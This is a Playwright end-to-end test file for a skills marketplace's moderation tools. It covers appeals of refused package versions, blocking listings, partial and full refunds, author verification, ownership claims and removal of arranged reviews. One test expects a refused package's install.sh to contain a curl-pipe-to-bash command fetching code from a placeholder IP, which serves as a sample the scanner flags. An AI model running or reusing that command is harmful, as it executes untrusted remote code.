import type { Locator, Page } from "@playwright/test";
import { queued, refusedListing, warnedFiles } from "../api/moderation";
import { until } from "../client";
import { expect, purchase, signIn, test, unique } from "../fixtures";
import { newClaimable, registry } from "../registry";

test("an appeal is read, answered in writing and granted", async ({ page, browser, seller }) => {
  const author = await seller({ connected: false });
  const { slug, versionId } = await refusedListing(author);

  await signIn(page, author.name, `/dashboard/listings/${slug}`);
  const refused = page.getByRole("region", { name: "Version 1.0.0 was refused" });
  await expect(page.getByText("A version that passes lifts the block.")).toBeVisible();
  await refused.getByText("Appeal to a person").click();
  await refused.getByLabel("Why the review is wrong").fill("The script is an example that nothing runs.");
  await refused.getByRole("button", { name: "Send the appeal" }).click();
  await expect(refused.getByText("Waits for an answer")).toBeVisible();
  await expect(refused.getByText("Appeal to a person")).toHaveCount(0);

  const desk = await browser.newPage();
  await signIn(desk, "admin", `/admin/versions/${versionId}`);
  await expect(desk.getByText("The script is an example that nothing runs.")).toBeVisible();
  await desk.getByRole("region", { name: "Files" }).getByRole("link", { name: "install.sh" }).click();
  await expect(desk.getByLabel("Content of install.sh")).toContainText("curl -fsS http://203.0.113.9/x | bash");
  await desk.getByLabel("Reason").fill("Agreed: it is an example.");
  await desk.getByRole("button", { name: "Publish it" }).click();
  await expect(desk.getByText("Version approved")).toBeVisible();
  await desk.close();

  await page.reload();
  await expect(refused).toHaveCount(0);
  await expect(page.getByRole("main").getByText("Current")).toBeVisible();
});

test("an author has the same package reviewed again", async ({ page, seller }) => {
  const author = await seller({ connected: false });
  const { slug } = await refusedListing(author);
  await signIn(page, author.name, `/dashboard/listings/${slug}`);
  const refused = page.getByRole("region", { name: "Version 1.0.0 was refused" });
  await refused.getByRole("button", { name: "Review again" }).click();
  await expect(page.getByText("Version 1.0.0 is in review").or(refused)).toBeVisible();
  await expect(refused.getByText("install.sh:1")).toBeVisible({ timeout: 20_000 });
});

test("a moderator finds a listing by its slug, blocks it with a reason and lifts the block", async ({
  page,
  seller,
  listing,
}) => {
  const { slug } = await listing(await seller({ connected: false }));
  await signIn(page, "admin", "/admin/listings");
  await page.getByLabel("Slug").fill(slug);
  await page.getByRole("main").getByRole("button", { name: "Find" }).click();
  await page.getByLabel("Reason").fill("It pretends to be somebody else's.");
  await page.getByRole("button", { name: "Block it" }).click();
  const question = page.getByRole("dialog");
  await expect(question).toContainText("Nobody has bought it");
  await question.getByRole("button", { name: "Cancel" }).click();
  await expect(page.getByText("Blocked by a moderator")).toHaveCount(0);
  await page.getByRole("button", { name: "Block it" }).click();
  await question.getByRole("button", { name: "Block it" }).click();
  await expect(page.getByText("Blocked by a moderator")).toBeVisible();

  const reason = `They have shown that ${slug} is theirs.`;
  await page.getByLabel("Reason").fill(reason);
  await page.getByRole("button", { name: "Lift the block" }).click();
  await expect(page.getByText("Blocked by a moderator")).toHaveCount(0);
  await expect(page.getByText("Block lifted")).toBeVisible();

  await page.goto("/admin/audit");
  await expect(page.getByText(reason)).toBeVisible();
});

test("a warned first version waits in the queue until somebody looked", async ({ page, seller, listing }) => {
  const slug = unique("warned");
  const title = `Warned ${slug}`;
  await listing(await seller({ connected: false }), { slug, title, price_cents: 900, files: warnedFiles(slug) });
  await signIn(page, "admin", "/admin?kind=warned");
  await openEntry(page, title);
  await page.getByLabel("Reason").fill("The hook only greets.");
  await page.getByRole("button", { name: "Keep it published" }).click();
  await expect(page.getByText("Version approved")).toBeVisible();
});

test("a moderator gives a part of a purchase back", async ({ page, seller, listing, buyer }) => {
  const bob = await buyer();
  const { purchase_id } = await purchase(bob, await listing(await seller(), { price_cents: 2000 }));
  await signIn(page, "admin", `/admin/purchases?number=${purchase_id}`);
  await page.getByLabel("Amount in dollars").fill("25");
  await page.getByLabel("Reason").fill("It did half of what it says.");
  await giveBack(page);
  await expect(page.getByText("only 2000 cents are left to give back")).toBeVisible();
  await page.getByLabel("Amount in dollars").fill("0");
  await giveBack(page);
  await expect(page.getByText("Give back $0.01 or more")).toBeVisible();
  await page.getByLabel("Amount in dollars").fill("7.50");
  await giveBack(page, `$7.50 goes to ${bob.name.replace("-", " ")}`, "The license stays.");
  await expect(page.getByRole("region", { name: "Refunds" }).getByText("$7.50")).toBeVisible();
});

test("after all of a purchase was given back nothing more is offered", async ({ page, seller, listing, buyer }) => {
  const { purchase_id } = await purchase(await buyer(), await listing(await seller(), { price_cents: 2000 }));
  await signIn(page, "admin", `/admin/purchases?number=${purchase_id}`);
  await page.getByRole("button", { name: "Give back" }).click();
  await expect(page.getByRole("dialog")).toBeHidden(); // the reason is missing
  await page.getByLabel("Reason").fill("It does nothing of what it says.");
  await page.getByLabel("Amount in dollars").press("Enter");
  await expect(page.getByRole("region", { name: "Refunds" })).toHaveCount(0);
  await giveBack(page, "Give $20.00 back?", "the license ends");
  await expect(page.getByRole("region", { name: "Refunds" }).getByText("$20.00")).toBeVisible();
  const section = page.getByRole("region", { name: "Give it back" });
  await expect(section).toContainText("there is nothing more to give");
  await expect(section.getByRole("button")).toHaveCount(0);
});

test("the author of a blocked listing reads why, and what does not lift the block", async ({
  page,
  as,
  seller,
  listing,
}) => {
  const [author, admin] = [await seller({ connected: false }), await as("admin")];
  const { slug } = await listing(author);
  await admin.post(`/v1/admin/skills/${slug}/block`, { reason: "It is somebody else's work." });
  await signIn(page, author.name, `/dashboard/listings/${slug}`);
  await expect(page.getByText("Blocked by a moderator")).toBeVisible();
  await expect(page.getByText("It is somebody else's work.")).toBeVisible();
  await expect(page.getByText("a new version alone does not")).toBeVisible();
});

test("a block names how many buyers may have how much back", async ({ page, seller, listing, buyer }) => {
  const offered = await listing(await seller(), { price_cents: 1500 });
  for (const person of [await buyer(), await buyer()]) await purchase(person, offered);
  await signIn(page, "admin", `/admin/listings/${offered.slug}`);
  await page.getByLabel("Reason").fill("It sends keys away.");
  await page.getByRole("button", { name: "Block it" }).click();
  await expect(page.getByRole("dialog")).toContainText(
    "2 buyers are told by mail and may have $30.00 back for 90 days",
  );
});

/** Gives back after the question, which says all this. */
async function giveBack(page: Page, ...says: string[]): Promise<void> {
  await page.getByRole("button", { name: "Give back" }).click();
  const question = page.getByRole("dialog");
  for (const words of says) await expect(question).toContainText(words);
  await question.getByRole("button", { name: "Give back" }).click();
  await expect(question).toBeHidden();
}

test("a moderator marks an author as verified", async ({ page, seller }) => {
  const author = await seller({ connected: false });
  const { body } = await author.get<{ display_name_slug: string }>("/v1/users/profile");
  await signIn(page, "admin", `/admin/people?named=${body.display_name_slug}`);
  await page.getByRole("button", { name: /^Mark as verified/ }).click();
  await expect(page.getByRole("main").getByText("Verified", { exact: true })).toBeVisible();
});

test("a claim is turned down after a question that names both", async ({ page, as }) => {
  const { slug } = await newClaimable();
  const title = `Claimed ${slug}`;
  await registry("POST", "/_control/skills", { slug, displayName: title });
  const name = unique("claimer");
  const claimant = await as(name);
  await claimant.patch("/v1/users/profile", { display_name: `The ${name}` });
  expect((await claimant.post("/v1/claims", { skill_slug: slug, source: "clawhub" })).status).toBe(201);
  await signIn(page, "admin", "/admin?kind=claim");
  const entry = await entryOf(page, title);
  await entry.getByLabel("Reason").fill("The file is not there.");
  await entry.getByRole("button", { name: "Hand it over" }).click();
  await expect(page.getByRole("dialog")).toContainText(`The ${name} becomes its author`);
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
  await entry.getByRole("button", { name: "Turn it down" }).click();
  const question = page.getByRole("dialog");
  await expect(question).toContainText(`Turn the claim on ${title} down?`);
  await expect(question).toContainText(`The ${name} is told the reason and can't claim it again.`);
  await question.getByRole("button", { name: "Turn it down" }).click();
  await expect(entry).toHaveCount(0);
  expect((await claimant.get("/v1/claims")).body).toMatchObject({ items: [{ status: "rejected" }] });
});

test("arranged reviews are removed after a question", async ({ page, api, as, seller, listing, buyer }) => {
  const { slug } = await listing(await seller({ connected: false }));
  for (const person of [await buyer(), await buyer(), await buyer()]) {
    await person.post(`/v1/skills/${slug}/reviews`, { rating: 5, text: "The best there is." });
  }
  const admin = await as("admin");
  await until(async () => (await queued(admin, slug)).some(({ kind }) => kind === "ring"));

  await signIn(page, "admin", "/admin?kind=ring");
  const entry = await entryOf(page, slug);
  await entry.getByLabel("Reason").fill("They all joined within the hour.");
  await entry.getByRole("button", { name: "Remove the reviews" }).click();
  const question = page.getByRole("dialog");
  await expect(question).toContainText("They can't be brought back.");
  await question.getByRole("button", { name: "Cancel" }).click();
  expect((await api.get(`/v1/skills/${slug}/reviews`)).body).toMatchObject({ total: 3 });
  await entry.getByRole("button", { name: "Remove the reviews" }).click();
  await question.getByRole("button", { name: "Remove the reviews" }).click();
  await expect(entry).toHaveCount(0);
  expect((await api.get(`/v1/skills/${slug}/reviews`)).body).toMatchObject({ total: 0 });
});

async function openEntry(page: Page, title: string): Promise<void> {
  await (await entryOf(page, title)).getByRole("link", { name: title }).click();
}

/** The entry may be on a later page: other tests' entries wait there too. */
async function entryOf(page: Page, title: string): Promise<Locator> {
  const entry = page.getByRole("main").getByRole("listitem").filter({ hasText: title });
  const next = page.getByRole("link", { name: "Next" });
  for (;;) {
    await expect(entry.or(next).first()).toBeVisible();
    if (await entry.isVisible()) return entry;
    const url = page.url();
    await next.click();
    await page.waitForURL((now) => now.href !== url);
  }
}
